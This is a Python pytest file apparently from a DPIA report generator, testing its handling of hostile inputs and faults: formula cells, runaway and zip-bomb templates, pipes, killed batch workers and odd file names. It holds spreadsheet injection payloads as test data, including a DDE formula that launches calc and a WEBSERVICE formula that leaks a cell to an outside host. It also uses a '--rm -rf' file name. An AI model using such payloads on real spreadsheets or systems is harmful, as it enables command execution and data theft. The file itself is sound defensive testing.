"""Hostile inputs and faults, each tried for real: formulas in summaries, bomb templates, odd file
names, killed processes, output-side errors. Every case ends with a documented exit code, no
traceback, no hang, and nothing lost. A real process is started where the process is the point:
signals, killed workers, a lock held by another process, memory limits, file descriptors, and files
that would sink the process reading them; everything else goes through the command's parser in
this process (`invoke_dpia`)."""

from __future__ import annotations

import contextlib
import csv
import os
import resource
import signal
import subprocess
import sys
import threading
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import docx
import openpyxl
import pytest
from conftest import SAMPLES, invoke_dpia

from dpia.batch.cells import neutralise
from dpia.printable import printable
from dpia.report.build import default_template

MINIMAL = (SAMPLES / "minimal.yaml").read_text(encoding="utf-8")
SAFETY_NET = 6 * 1024**3  # address space of every process a test starts: a failed bound cannot sink the machine


def _cap_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (SAFETY_NET, SAFETY_NET))


def dpia(*args: str | Path, cwd: Path, timeout: float = 120, **environment: str) -> subprocess.CompletedProcess[str]:
    """`python -m dpia ARGS` as a real process, with extra environment variables, under the safety net."""
    return subprocess.run(
        [sys.executable, "-m", "dpia", *map(str, args)],
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=timeout,
        env={**os.environ, "COLUMNS": "120", "NO_COLOR": "1", **environment},
        preexec_fn=_cap_memory,
    )


class _Stuck(BaseException):
    """Raised in this process when a command that a render deadline should stop is still running."""


@contextlib.contextmanager
def _fails_instead_of_hanging(seconds: float = 120) -> Iterator[None]:
    """For a command run in this process on a runaway template: were its render deadline ever broken,
    the test fails after `seconds` instead of hanging the suite, as a process would by its timeout."""

    def stuck(signum: int, frame: object) -> None:
        raise _Stuck(f"still running after {seconds:g} s: the render deadline did not stop it")

    previous = signal.signal(signal.SIGUSR1, stuck)
    timer = threading.Timer(seconds, signal.pthread_kill, (threading.main_thread().ident, signal.SIGUSR1))
    timer.start()
    try:
        yield
    finally:
        timer.cancel()
        signal.signal(signal.SIGUSR1, previous)


def template_with(tmp_path: Path, line: str, name: str = "mine.docx") -> Path:
    """The shipped French template with one more paragraph holding `line`."""
    document = docx.Document(str(default_template("fr")))
    document.add_paragraph(line)
    path = tmp_path / name
    document.save(str(path))
    return path


def answers_named(service: str, controller: str) -> str:
    """The minimal sample with the service and controller names replaced (YAML-quoted)."""
    import json

    text = MINIMAL.replace(
        "name: Prise de rendez-vous du vaccinodrome départemental", f"name: {json.dumps(service)}", 1
    )
    return text.replace("name: Département de Loire-Exemple (fictif)", f"name: {json.dumps(controller)}", 1)


# -- spreadsheet formulas ------------------------------------------------------------------------------

FORMULAS = ["=cmd|' /C calc'!A0", '=WEBSERVICE("http://x.invalid/?"&A2)', "\t=1+1", "\r=2+2", "+3", "-4", "@SUM(1)"]


def test_summary_cells_holding_formulas_stay_text(tmp_path: Path) -> None:
    inputs = tmp_path / "in"
    inputs.mkdir()
    names = []
    for number, formula in enumerate(FORMULAS):
        names.append(f"f{number}.yaml")
        (inputs / names[-1]).write_text(answers_named(formula, formula), encoding="utf-8")
    # File names that read as formulas; named on the command line, they are the "file" cell as given.
    formula_names = ["-x.yaml", "\t=1+1.yaml", "\r=2.yaml", "=3.yaml", "@4.yaml"]
    for name in formula_names:
        (inputs / name).write_text(MINIMAL, encoding="utf-8")
    result = invoke_dpia(
        "batch", "-o", "../out", "-j", "1", "--formats", "json", "--", *names, *formula_names, cwd=inputs
    )
    assert result.returncode == 0, result.stdout + result.stderr
    out = tmp_path / "out"

    with open(out / "summary.csv", encoding="utf-8", newline="") as handle:
        from_csv = list(csv.DictReader(handle))
    sheet = openpyxl.load_workbook(out / "summary.xlsx")["summary"]
    header = [cell.value for cell in sheet[1]]
    from_xlsx = [{key: cell.value for key, cell in zip(header, row, strict=True)} for row in sheet.iter_rows(min_row=2)]
    ordinary = "Prise de rendez-vous du vaccinodrome départemental"
    for rows in (from_csv, from_xlsx):
        assert len(rows) == len(FORMULAS) + len(formula_names)
        by_file = {str(row["file"]): row for row in rows}
        for name, formula in zip(names, FORMULAS, strict=True):
            # Answers are stripped when loaded; what remains reads back behind one quote.
            assert by_file[name]["service"] == by_file[name]["controller"] == "'" + formula.strip()
        for name in formula_names:
            # Tab and CR in a file name are shown escaped (\x09), which a spreadsheet reads as text anyway.
            shown = neutralise(printable(name))
            assert shown in by_file and shown.startswith(("'", "\\x")), sorted(by_file)
            assert by_file[shown]["service"] == ordinary
        assert by_file["'-x.yaml"]["outputs"] == "x.score.json", "output names never start with a dash"
        assert all(str(row["disappearance_initial"]).isdigit() for row in rows)
    # Not one cell of the workbook is a formula, and levels stay numbers.
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert all(isinstance(row["disappearance_initial"], int) for row in from_xlsx)


# -- runaway and bomb templates --------------------------------------------------------------------

RUNAWAY = "{% for a in range(100000) %}{% for b in range(100000) %}{% for c in range(100000) %}{% endfor %}{% endfor %}{% endfor %}"


def test_a_runaway_template_is_stopped_at_its_deadline(tmp_path: Path) -> None:
    template = template_with(tmp_path, RUNAWAY)
    out = tmp_path / "out.docx"
    # In this process: the deadline is a timer in whichever process renders, the same here as in a command.
    with _fails_instead_of_hanging():
        result = invoke_dpia(
            "build",
            SAMPLES / "minimal.yaml",
            "-o",
            out,
            "--template",
            template,
            cwd=tmp_path,
            env={"DPIA_RENDER_SECONDS": "0.3"},
        )
    assert result.returncode == 2, result.stderr
    assert result.stderr.startswith(f"{template}: "), result.stderr
    assert "rendering one document took longer than 0.3 s" in result.stderr
    assert "Traceback" not in result.stderr and not out.exists()


def test_batch_workers_stop_a_runaway_template_and_the_batch_ends(tmp_path: Path) -> None:
    inputs = tmp_path / "in"
    inputs.mkdir()
    for name in ("a", "b", "c"):
        (inputs / f"{name}.yaml").write_text(MINIMAL, encoding="utf-8")
    template = template_with(tmp_path, RUNAWAY)
    result = dpia(
        "batch",
        inputs,
        "-o",
        tmp_path / "out",
        "-j",
        "2",
        "--template",
        template,
        cwd=tmp_path,
        DPIA_RENDER_SECONDS="0.3",
    )
    assert result.returncode == 1, result.stdout + result.stderr
    assert result.stdout.count("took longer than 0.3 s") == 3, result.stdout
    assert "Traceback" not in result.stdout + result.stderr
    assert not list((tmp_path / "out").glob("*.docx"))


@pytest.mark.parametrize(
    ("line", "message"),
    [
        ("{{ 'x' * 10000000000 }}", "a repetition of more than 10,000,000 items is refused"),
        ("{{ 7 ** 100000000 }}", "a power of more than 100,000 bits is refused"),
        ("{{ 'x'|center(10000000000) }}", "needed more than 300 MiB of memory"),
        ("{% for a in range(100000) %}{{ 'x'|center(1000000) }}{% endfor %}", "needed more than 300 MiB of memory"),
    ],
)
def test_a_template_that_asks_for_too_much_memory_is_refused(tmp_path: Path, line: str, message: str) -> None:
    template = template_with(tmp_path, line)
    out = tmp_path / "out.docx"
    result = dpia(
        "build", SAMPLES / "minimal.yaml", "-o", out, "--template", template, cwd=tmp_path, DPIA_RENDER_MEMORY_MIB="300"
    )
    assert result.returncode == 2, result.stderr
    assert result.stderr.startswith(f"{template}: ") and message in result.stderr, result.stderr
    assert "Traceback" not in result.stderr and not out.exists()


def test_a_bad_limit_setting_is_a_usage_error(tmp_path: Path) -> None:
    result = invoke_dpia(
        "build", SAMPLES / "minimal.yaml", "-o", tmp_path / "o.docx", cwd=tmp_path, env={"DPIA_RENDER_SECONDS": "soon"}
    )
    assert result.returncode == 2 and result.stderr == "DPIA_RENDER_SECONDS: 'soon' is not a positive number\n"


# -- broken and bomb template packages ------------------------------------------------------------


def _rebuilt(tmp_path: Path, name: str, change: dict[str, bytes], compress: int = zipfile.ZIP_DEFLATED) -> Path:
    """The shipped template with some parts replaced (or added), as a new .docx."""
    source = zipfile.ZipFile(default_template("fr"))
    path = tmp_path / name
    with zipfile.ZipFile(path, "w", compress) as target:
        for info in source.infolist():
            target.writestr(info.filename, change.pop(info.filename, b"") or source.read(info.filename))
        for part, content in change.items():
            target.writestr(part, content)
    return path


def _document_xml() -> str:
    return zipfile.ZipFile(default_template("fr")).read("word/document.xml").decode("utf-8")


def _corrupt_deflate(tmp_path: Path) -> Path:
    path = _rebuilt(tmp_path, "corrupt.docx", {})
    data = bytearray(path.read_bytes())
    info = zipfile.ZipFile(path).getinfo("word/document.xml")
    start = info.header_offset + 30 + len(info.filename) + len(info.extra)
    data[start + 10 : start + 40] = b"\xff" * 30
    path.write_bytes(bytes(data))
    return path


def _encrypted(tmp_path: Path) -> Path:
    path = _rebuilt(tmp_path, "encrypted.docx", {})
    data = bytearray(path.read_bytes())
    info = zipfile.ZipFile(path).getinfo("word/styles.xml")
    data[info.header_offset + 6] |= 0x1  # local header: general purpose flag, bit 0 "encrypted"
    position = data.find(b"PK\x01\x02")
    while position >= 0:  # central directory: find the entry of word/styles.xml and set the same bit
        length = int.from_bytes(data[position + 28 : position + 30], "little")
        if data[position + 46 : position + 46 + length] == b"word/styles.xml":
            data[position + 8] |= 0x1
        position = data.find(b"PK\x01\x02", position + 4)
    path.write_bytes(bytes(data))
    return path


BROKEN_TEMPLATES = {
    "utf-16 body": lambda tmp: _rebuilt(tmp, "utf16.docx", {"word/document.xml": _document_xml().encode("utf-16")}),
    "latin-1 body": lambda tmp: _rebuilt(
        tmp, "latin1.docx", {"word/document.xml": _document_xml().encode("latin-1", errors="replace")}
    ),
    "no body": lambda tmp: _rebuilt(
        tmp, "nobody.docx", {"word/document.xml": b'<?xml version="1.0"?><w:document xmlns:w="x"/>'}
    ),
    "corrupt deflate": _corrupt_deflate,
    "encrypted entry": _encrypted,
    "zip bomb": lambda tmp: _rebuilt(tmp, "bomb.docx", {"word/media/bomb.bin": bytes(8 * 1024 * 1024)}),
    "not a zip": lambda tmp: (tmp / "notes.docx", (tmp / "notes.docx").write_text("hello"))[0],
}


@pytest.mark.parametrize("case", sorted(BROKEN_TEMPLATES))
def test_a_broken_or_bomb_template_package_is_refused(tmp_path: Path, case: str) -> None:
    template = BROKEN_TEMPLATES[case](tmp_path)
    out = tmp_path / "out.docx"
    # In this process: the package is checked before it is unpacked, so even the bomb costs a few MiB at most.
    result = invoke_dpia("build", SAMPLES / "minimal.yaml", "-o", out, "--template", template, cwd=tmp_path)
    assert result.returncode == 2, result.stderr
    assert result.stderr.startswith(f"{template}: not a usable Word template: "), result.stderr
    assert len(result.stderr.splitlines()) == 1 and not out.exists()


# -- file type and size, checked before reading ----------------------------------------------------


def test_a_pipe_a_device_and_a_huge_file_are_refused_unread(tmp_path: Path) -> None:
    fifo = tmp_path / "answers.yaml"
    os.mkfifo(fifo)  # opening it would block until someone writes: it must never be opened
    huge = tmp_path / "huge.yaml"
    with open(huge, "wb") as handle:
        handle.truncate(2 * 1024**3)  # sparse: 2 GiB on paper, nothing on disk
    commands: list[list[str | Path]] = [["validate", fifo], ["build", fifo, "-o", tmp_path / "o.docx"]]
    for command in commands:
        result = dpia(*command, cwd=tmp_path, timeout=60)
        assert result.returncode == 2 and "is not a regular file" in result.stderr, result.stderr
    result = dpia("build", "/dev/zero", "-o", tmp_path / "o.docx", cwd=tmp_path, timeout=60)
    assert result.returncode == 2 and "/dev/zero: is not a regular file" in result.stderr, result.stderr
    result = dpia("validate", huge, cwd=tmp_path, timeout=60)
    # The size reported is the file's own: it was known before any byte was read.
    assert result.returncode == 2 and "the file is 2,147,483,648 bytes or more" in result.stderr, result.stderr
    result = dpia("build", SAMPLES / "minimal.yaml", "-o", tmp_path / "o.docx", "--template", huge, cwd=tmp_path)
    assert result.returncode == 2 and "the file is 2,147,483,648 bytes or more; a Word template" in result.stderr
    assert not (tmp_path / "o.docx").exists()


# -- file names and dead workers in a batch --------------------------------------------------------


def test_odd_file_names_neither_break_a_batch_nor_its_reruns(tmp_path: Path) -> None:
    inputs = tmp_path / "in"
    inputs.mkdir()
    latin1 = os.fsdecode(b"caf\xe9.yaml")  # not UTF-8: reaches Python with a lone surrogate
    control = "bell\x07esc\x1b[31m.yaml"
    longest = "é" * 125 + ".yaml"  # 255 bytes, the most a name may have
    for name in (latin1, control, longest):
        (inputs / name).write_text(MINIMAL, encoding="utf-8")
    for run in ("first", "rerun"):
        # In this process: its streams encode as a command's do (stdout strictly in UTF-8, stderr with
        # escapes), so a name that would break printing breaks here too.
        result = invoke_dpia(
            "batch", inputs, "-o", tmp_path / "out", "-j", "1", "--formats", "docx,cnil-pia", cwd=tmp_path
        )
        assert result.returncode == 0, f"{run}: {result.stdout}{result.stderr}"
        assert "Traceback" not in result.stdout + result.stderr and "\x1b" not in result.stdout + result.stderr
    out = tmp_path / "out"
    assert len(list(out.glob("*.docx"))) == 3 and len(list(out.glob("*.cnil-pia.json"))) == 3
    with open(out / "summary.csv", encoding="utf-8", newline="") as handle:
        files = sorted(row["file"] for row in csv.DictReader(handle))
    assert files == sorted(str(inputs / name) for name in ("caf\\xe9.yaml", "bell\\x07esc\\x1b[31m.yaml", longest))
    sheet = openpyxl.load_workbook(out / "summary.xlsx")["summary"]
    assert sorted(str(row[0].value) for row in sheet.iter_rows(min_row=2)) == files
    assert result.stderr.count(": unchanged\n") == 3, "the rerun found every file recorded"


def _statuses(out: Path) -> list[str]:
    with open(out / "summary.csv", encoding="utf-8", newline="") as handle:
        return [row["status"] for row in csv.DictReader(handle)]


def _children(pid: int) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
            except OSError:
                continue
            if int(fields[1]) == pid:
                found.append(int(entry.name))
    return found


STUCK = '{% if processing.name == "stuck" %}' + RUNAWAY + "{% endif %}"


def test_a_killed_worker_fails_its_item_and_the_batch_ends(tmp_path: Path) -> None:
    inputs = tmp_path / "in"
    inputs.mkdir()
    (inputs / "a.yaml").write_text(answers_named("stuck", "x"), encoding="utf-8")
    for name in ("b", "c", "d"):
        (inputs / f"{name}.yaml").write_text(MINIMAL, encoding="utf-8")
    template = template_with(tmp_path, STUCK)
    process = subprocess.Popen(
        [sys.executable, "-m", "dpia", "batch", inputs, "-o", tmp_path / "out", "-j", "2", "--template", template],
        cwd=tmp_path,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ, "DPIA_RENDER_SECONDS": "300"},
        preexec_fn=_cap_memory,
    )
    watchdog = threading.Timer(150, process.kill)  # a hang fails the test instead of blocking the suite
    watchdog.start()
    try:
        assert process.stderr is not None
        written = 0
        while written < 3:  # b, c and d are done by one worker; the other is stuck on a
            line = process.stderr.readline()
            assert line, "the batch ended early"
            written += line.rstrip().endswith(": written")
        for child in _children(process.pid):
            os.kill(child, signal.SIGKILL)
        stdout, stderr = process.communicate()
    finally:
        watchdog.cancel()
    assert process.returncode == 1, stdout + stderr
    assert f"{inputs / 'a.yaml'}: the worker process killed by SIGKILL while handling this file" in stdout
    assert sorted(path.name for path in (tmp_path / "out").glob("*.docx")) == ["b.docx", "c.docx", "d.docx"]
    assert sorted(_statuses(tmp_path / "out")) == ["failed", "written", "written", "written"]


# -- outputs: OS errors, inputs as outputs, permissions --------------------------------------------


def test_outputs_that_cannot_be_written_are_one_line_errors(tmp_path: Path) -> None:
    minimal = SAMPLES / "minimal.yaml"
    folder = tmp_path / "folder"
    folder.mkdir()
    too_long = tmp_path / ("é" * 126 + ".docx")  # 257 bytes: more than a name may have
    cases: list[tuple[list[str | Path], str]] = [
        (["build", minimal, "-o", folder], f"{folder}: is a folder; name a file to write"),
        (["export", minimal, "--to", "cnil-pia", "-o", folder], f"{folder}: is a folder; name a file to write"),
        (["schema", "-o", folder], f"{folder}: is a folder; name a file to write"),
        (["build", minimal, "-o", too_long], f"{too_long}: cannot write: File name too long"),
        (["build", minimal, "-o", "/proc/self/x.docx"], "/proc/self/x.docx: cannot write: "),
    ]
    for command, message in cases:
        result = invoke_dpia(*command, cwd=tmp_path)
        assert result.returncode == 2, (command, result.stderr)
        assert result.stderr.startswith(message) and len(result.stderr.splitlines()) == 1, result.stderr
    assert list(folder.iterdir()) == [] and not list(tmp_path.glob(".*.part"))
    longest = tmp_path / ("é" * 125 + ".docx")  # 255 bytes: legal, and so is its temporary name
    assert invoke_dpia("build", minimal, "-o", longest, cwd=tmp_path).returncode == 0 and longest.is_file()


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full, a device every write to fails (Linux)")
def test_standard_output_that_cannot_be_written_is_one_line_and_exit_2(tmp_path: Path) -> None:
    """`dpia ... > file` on a full disk: one line on stderr naming the command, exit 2, no traceback."""
    doctolib = str(SAMPLES / "doctolib-aws-2021.yaml")
    cases = [
        (["validate", doctolib], "validate: No space left on device"),  # answered without typer
        (["score", doctolib], "score: No space left on device"),
        (["--help"], "dpia: No space left on device"),
    ]
    for command, message in cases:
        with open("/dev/full", "w") as full:
            result = subprocess.run(
                [sys.executable, "-m", "dpia", *command], stdout=full, stderr=subprocess.PIPE, text=True, timeout=120
            )
        assert (result.returncode, result.stderr.splitlines()[-1:]) == (2, [message]), (command, result.stderr)
        assert "Traceback" not in result.stderr
    with open("/dev/full", "w") as full:  # --quiet writes nothing on stdout for a valid file: nothing fails
        quiet = subprocess.run([sys.executable, "-m", "dpia", "validate", "-q", doctolib], stdout=full, timeout=120)
    assert quiet.returncode == 0


def test_validate_started_with_its_output_streams_closed_answers_by_its_exit_code(tmp_path: Path) -> None:
    """`dpia validate FILE >&- 2>&-` (a hook that only reads the exit code): 0 for a valid file, 2 for a bad one."""

    def closed(*streams: int) -> Callable[[], None]:
        def close_in_child() -> None:
            for stream in streams:
                os.close(stream)

        return close_in_child

    doctolib = str(SAMPLES / "doctolib-aws-2021.yaml")
    for streams in ((1,), (2,), (1, 2)):
        codes = [
            subprocess.run(
                [sys.executable, "-m", "dpia", "validate", file], preexec_fn=closed(*streams), timeout=120
            ).returncode
            for file in (doctolib, str(tmp_path / "nowhere.yaml"))
        ]
        assert codes == [0, 2], streams


def test_a_command_never_writes_onto_its_own_input(tmp_path: Path) -> None:
    answers = tmp_path / "answers.yaml"
    answers.write_text(MINIMAL, encoding="utf-8")
    commands: list[list[str | Path]] = [
        ["build", answers, "-o", answers],
        ["export", answers, "--to", "cnil-pia", "-o", "./answers.yaml"],
    ]
    for command in commands:
        result = invoke_dpia(*command, cwd=tmp_path)
        assert result.returncode == 2 and "is the input" in result.stderr, result.stderr
    assert answers.read_text(encoding="utf-8") == MINIMAL


def test_rewriting_a_file_keeps_its_permissions(tmp_path: Path) -> None:
    out = tmp_path / "private.docx"
    out.write_bytes(b"old")
    out.chmod(0o600)
    result = invoke_dpia("build", SAMPLES / "minimal.yaml", "-o", out, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert zipfile.is_zipfile(out) and (out.stat().st_mode & 0o777) == 0o600


def test_score_prints_names_as_text_not_markup(tmp_path: Path) -> None:
    doctolib = (SAMPLES / "doctolib-aws-2021.yaml").read_text(encoding="utf-8")
    hostile = "AWS [/x] Sarl [link=https://evil.invalid]clic[/link]"
    assert "  - name: AWS Sarl\n" in doctolib
    answers = tmp_path / "answers\x1b[2J.yaml"
    answers.write_text(doctolib.replace("  - name: AWS Sarl\n", f"  - name: {hostile!r}\n"), encoding="utf-8")
    result = invoke_dpia("score", answers, cwd=tmp_path, env={"COLUMNS": "400"})
    assert result.returncode == 0, result.stderr
    assert hostile in result.stdout, "the provider's name is printed verbatim"
    assert "\x1b" not in result.stdout and "answers\\x1b[2J.yaml" in result.stdout


# -- a batch parent killed or stopped; two batches on one folder -----------------------------------


@pytest.mark.parametrize("stop", ["SIGKILL", "SIGTERM"])
def test_a_killed_batch_keeps_its_records_locks_its_folder_and_a_plain_rerun_finishes(
    tmp_path: Path, stop: str
) -> None:
    inputs = tmp_path / "in"
    inputs.mkdir()
    (inputs / "a.yaml").write_text(answers_named("stuck", "x"), encoding="utf-8")
    for name in ("b", "c", "d"):
        (inputs / f"{name}.yaml").write_text(MINIMAL, encoding="utf-8")
    template = template_with(tmp_path, STUCK)
    out = tmp_path / "out"
    command: list[str | Path] = ["batch", inputs, "-o", out, "--template", template]
    # The run that is killed is a real process with workers; the runs that meet its lock, or what it
    # left, go through the command's parser in this process (one at a time, `-j 1`).
    process = subprocess.Popen(
        [sys.executable, "-m", "dpia", *map(str, command), "-j", "2"],
        cwd=tmp_path,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ, "DPIA_RENDER_SECONDS": "300"},
        preexec_fn=_cap_memory,
    )
    watchdog = threading.Timer(150, process.kill)
    watchdog.start()

    def plain_rerun() -> subprocess.CompletedProcess[str]:
        with _fails_instead_of_hanging():
            return invoke_dpia(*command, "-j", "1", cwd=tmp_path, env={"DPIA_RENDER_SECONDS": "0.3"})

    workers: list[int] = []
    try:
        assert process.stderr is not None
        written = 0
        while written < 3:  # b, c and d have landed; a is stuck in its worker
            line = process.stderr.readline()
            assert line, "the batch ended early"
            written += line.rstrip().endswith(": written")
        # A second run on the same folder is refused at once, and touches nothing.
        second = invoke_dpia(*command, "-j", "1", cwd=tmp_path)
        assert second.returncode == 2, second.stderr
        assert f"another dpia batch (process {process.pid}) is writing" in second.stderr, second.stderr
        workers = _children(process.pid)
        os.kill(process.pid, getattr(signal, stop))
        process.wait()
        if stop == "SIGKILL":
            # The stuck worker outlives its parent until its deadline: the folder's lock does not.
            alive = [worker for worker in workers if Path(f"/proc/{worker}").exists()]
            assert alive, "a worker is still rendering"
            rerun = plain_rerun()
            assert "another dpia batch" not in rerun.stderr, rerun.stderr
    finally:  # the stuck worker burns a core until it is killed: at once, whatever happened
        watchdog.cancel()
        for worker in workers or _children(process.pid):
            with contextlib.suppress(ProcessLookupError):
                os.kill(worker, signal.SIGKILL)
        process.kill()
        process.communicate()
    if stop == "SIGTERM":
        assert process.returncode == 130, "stopped as Ctrl-C stops it"
        assert (out / ".dpia-batch.json").is_file()
        rerun = plain_rerun()
    assert rerun.returncode == 1, rerun.stdout + rerun.stderr  # only the stuck file fails, at its deadline
    assert rerun.stderr.count(": unchanged\n") == 3, rerun.stderr
    assert "took longer than 0.3 s" in rerun.stdout
    assert sorted(path.name for path in out.glob("*.docx")) == ["b.docx", "c.docx", "d.docx"]
    assert not list(out.rglob("*.part")) and not (out / ".dpia-batch.journal").exists()


# -- numbers Python cannot build -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ("0x_", "'0x_' is not a whole number"),
        ("!!int 1.5", "'1.5' is not a whole number"),
        ("!!int 12ab", "'12ab' is not a whole number"),
        ("!!float abc", "'abc' is not a number"),
        ("9" * 5000, "a number of 5,000 digits; at most 4,300 are read"),
    ],
)
def test_numbers_python_cannot_build_are_located_errors(tmp_path: Path, value: str, message: str) -> None:
    answers = tmp_path / "answers.yaml"
    answers.write_text(MINIMAL.replace("  count: 150000", f"  count: {value}"), encoding="utf-8")
    line = MINIMAL.splitlines().index("  count: 150000") + 1
    result = invoke_dpia("validate", answers, cwd=tmp_path)
    assert result.returncode == 2, result.stderr
    assert result.stderr.startswith(f"{answers}:{line}:10: {message}"), result.stderr
    assert "Traceback" not in result.stderr


# -- damaged manifest, absurd --jobs ---------------------------------------------------------------


def test_a_manifest_whose_items_are_a_list_and_a_huge_jobs_count_are_no_traceback(tmp_path: Path) -> None:
    inputs = tmp_path / "in"
    inputs.mkdir()
    for name in ("a", "b"):
        (inputs / f"{name}.yaml").write_text(MINIMAL, encoding="utf-8")
    command: list[str | Path] = ["batch", inputs, "-o", tmp_path / "out", "--formats", "json"]
    assert invoke_dpia(*command, "-j", "1", cwd=tmp_path).returncode == 0  # the folder a run leaves
    (tmp_path / "out" / ".dpia-batch.json").write_text('{"version": 1, "items": []}', encoding="utf-8")
    result = dpia(*command, "-j", "100000", cwd=tmp_path)  # a process: how many workers it starts is the point
    assert "Traceback" not in result.stdout + result.stderr
    assert result.returncode in (0, 1), result.stderr


# -- manifest damage, name collisions, edits during a run, what a batch takes as input ------------------


def _batch(inputs: list[Path], out: Path, force: bool = False, progress: Any = None, fmt: str = "json") -> Any:
    """`dpia batch INPUTS -o OUT --formats FMT -j 1`, in this process: the same run, without a start-up."""
    from dpia.batch.run import run
    from dpia.batch.work import Settings

    settings = Settings(formats=(fmt,), lang="fr", template=default_template("fr"))
    return run(inputs, out, settings, jobs=1, force=force, progress=progress)


def _damage(manifest: Path, how: str) -> None:
    if how == "bad JSON":
        manifest.write_text('{"version": 1, "items": {', encoding="utf-8")
    elif how == "not UTF-8":
        manifest.write_bytes(b'{"version": 1, "items": {"\xff": 1}}')
    elif how == "items are a list":
        manifest.write_text('{"version": 1, "items": []}', encoding="utf-8")
    elif how == "entries of the wrong shape":
        manifest.write_text('{"version": 1, "items": {"a": [], "b": {"key": 1}}}', encoding="utf-8")
    else:
        manifest.chmod(0)


@pytest.mark.parametrize(
    "how", ["bad JSON", "not UTF-8", "items are a list", "entries of the wrong shape", "no read permission"]
)
def test_a_damaged_manifest_makes_every_item_be_redone_not_foreign(tmp_path: Path, how: str) -> None:
    if how == "no read permission" and os.geteuid() == 0:
        pytest.skip("root reads a file whatever its mode")
    inputs, out = tmp_path / "in", tmp_path / "out"
    inputs.mkdir()
    for name in ("a", "b"):
        (inputs / f"{name}.yaml").write_text(MINIMAL, encoding="utf-8")
    assert _batch([inputs], out).written == 2
    _damage(out / ".dpia-batch.json", how)
    report = _batch([inputs], out)
    assert (report.written, report.failed) == (2, 0), report.rows
    assert [row["status"] for row in report.rows] == ["written", "written"]
    again = _batch([inputs], out)
    assert (again.skipped, again.written) == (2, 0), "the rewritten manifest is whole again"
    if how != "bad JSON":
        return
    (out / "c.score.json").write_text("mine", encoding="utf-8")
    (inputs / "c.yaml").write_text(MINIMAL, encoding="utf-8")
    assert _batch([inputs], out).failed == 1, "a user's file is still never replaced"


def test_a_file_and_a_folder_needing_one_output_name_both_land(tmp_path: Path) -> None:
    inputs, out = tmp_path / "in", tmp_path / "out"
    for folder in ("a.score.json", "summary.csv", "A.SCORE.JSON.x"):
        (inputs / folder).mkdir(parents=True)
        (inputs / folder / "b.yaml").write_text(MINIMAL, encoding="utf-8")
    (inputs / "a.yaml").write_text(MINIMAL, encoding="utf-8")
    for force in (False, False, True):
        report = _batch([inputs], out, force=force)
        assert report.failed == 0, report.rows
    assert (out / "a.score.json").is_file() and (out / "summary.csv").is_file()
    assert sorted(path.relative_to(out).as_posix() for path in out.rglob("b.score.json")) == [
        "A.SCORE.JSON.x/b.score.json",
        "a.score.json_/b.score.json",
        "summary.csv_/b.score.json",
    ]
    # A folder of the user's own where an output goes: with --force that item fails, in one line.
    (out / "a.score.json").unlink()
    (out / "a.score.json").mkdir()
    report = _batch([inputs], out, force=True)
    failed = [row for row in report.rows if row["status"] == "failed"]
    assert len(failed) == 1 and failed[0]["file"] == str(inputs / "a.yaml"), report.rows
    assert failed[0]["errors"] == f"{out / 'a.score.json'}: is a folder; name a file to write"


def test_a_file_edited_during_a_run_then_reverted_is_redone(tmp_path: Path) -> None:
    """The record holds the bytes the worker read, not the ones checked before: no stale output is kept."""
    inputs, out = tmp_path / "in", tmp_path / "out"
    inputs.mkdir()
    first, second = inputs / "a.yaml", inputs / "b.yaml"
    first.write_text(MINIMAL, encoding="utf-8")
    second.write_text(answers_named("Service A", "Controller"), encoding="utf-8")
    _batch([inputs], out, fmt="cnil-pia")

    first.write_text(answers_named("Service B", "Controller"), encoding="utf-8")  # both are redone next
    second.write_text(answers_named("Service checked", "Controller"), encoding="utf-8")

    def edit_b_while_a_lands(outcome: Any, item: Any) -> None:
        if item.source == first:  # b was hashed before the run started; its worker has not read it yet
            second.write_text(answers_named("Service edited during the run", "Controller"), encoding="utf-8")

    _batch([inputs], out, progress=edit_b_while_a_lands, fmt="cnil-pia")
    output = out / "b.cnil-pia.json"
    assert "Service edited during the run" in output.read_text(encoding="utf-8")
    # Reverted to what the run had checked first: the output says otherwise, so it is redone.
    second.write_text(answers_named("Service checked", "Controller"), encoding="utf-8")
    report = _batch([inputs], out, fmt="cnil-pia")
    assert [row["status"] for row in report.rows] == ["unchanged", "written"]
    assert "Service checked" in output.read_text(encoding="utf-8")


def test_a_batch_takes_only_the_answer_files_of_its_input_tree(tmp_path: Path) -> None:
    from dpia.batch.plan import discover

    inputs, elsewhere, out = tmp_path / "in", tmp_path / "elsewhere", tmp_path / "out"
    (inputs / ".git").mkdir(parents=True)
    elsewhere.mkdir()
    (elsewhere / "secret.yaml").write_text(MINIMAL, encoding="utf-8")
    for name in ("a.yaml", "--rm -rf.yaml", ".hidden.yaml", ".git/c.yaml"):
        (inputs / name).write_text(MINIMAL, encoding="utf-8")
    (inputs / "out-link.yaml").symlink_to(elsewhere / "secret.yaml")
    (inputs / "folder-link").symlink_to(elsewhere, target_is_directory=True)
    (inputs / "in-link.yaml").symlink_to(inputs / "a.yaml")
    assert [item.stem for item in discover([inputs])] == ["rm_-rf", "a"]
    assert [item.stem for item in discover([inputs / ".hidden.yaml"])] == ["hidden"], "a file named is taken"

    nested = out / "answers"
    nested.mkdir(parents=True)
    (nested / "a.yaml").write_text(MINIMAL, encoding="utf-8")
    result = invoke_dpia("batch", nested, "-o", out, cwd=tmp_path)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert f"{nested}: is inside the output folder {out}" in result.stderr, result.stderr


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads a folder whatever its mode")
def test_an_unreadable_sub_folder_is_reported_not_skipped(tmp_path: Path) -> None:
    inputs = tmp_path / "in"
    (inputs / "locked").mkdir(parents=True)
    (inputs / "a.yaml").write_text(MINIMAL, encoding="utf-8")
    (inputs / "locked" / "b.yaml").write_text(MINIMAL, encoding="utf-8")
    (inputs / "locked").chmod(0)
    try:
        result = dpia("batch", inputs, "-o", tmp_path / "out", "--formats", "json", cwd=tmp_path)
    finally:
